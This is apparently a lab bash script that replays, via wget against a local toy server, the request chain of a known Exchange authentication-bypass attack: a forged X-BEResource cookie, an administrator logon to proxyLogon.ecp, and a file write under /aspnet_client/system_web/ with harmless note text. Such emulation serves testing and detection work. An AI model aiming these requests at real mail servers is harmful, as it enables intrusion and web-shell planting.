#!/usr/bin/env bash
# wget version of the lab request chain (toy server on 127.0.0.1 only).
# wget adds its own Accept-Encoding and Host; -U replaces its User-Agent.
set -eu
port="${1:-8080}"
base="http://127.0.0.1:$port"
agent='Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36'
note=/aspnet_client/system_web/readme_91453.txt
pad=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA

common() {
  wget -q -O - --timeout=10 --tries=5 \
    --header="User-Agent: $agent" \
    --header='x-requested-with: XMLHttpRequest' \
    --header='Accept: */*' \
    --header='accept-language: en-US,en;q=0.9' \
    --header='connection: close' "$@"
}

common --header='cookie: X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522' \
  "$base/autodiscover/autodiscover.json?Pad=$pad&Protocol=Autodiscoverv1&Email=administrator%40lab.invalid%2Fmapi%2Fnspi&RequestId=20200302-7720" >/dev/null || exit 1

who=$(wget -q -O - --timeout=10 --tries=5 \
  --header="user-agent: $agent" \
  --header='msexchlogonmailbox: S-1-5-20' \
  --header='content-type: application/json' \
  --header='X-BEResource: localhost@lab.invalid/ecp/proxyLogon.ecp' \
  --post-data='{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}' \
  "$base/ecp/proxyLogon.ecp" || true)
[ -n "$who" ] || who=anonymous

body="note 1 of 3 for $who
note 2 of 3 for $who
note 3 of 3 for $who"
wget -q -O /dev/null --timeout=10 --tries=5 \
  --header="user-agent: $agent" \
  --header="X-Note-Path: $note" \
  --header='Content-Type: text/plain' \
  --post-data="$body" "$base$note"

common "$base$note" | wc -c
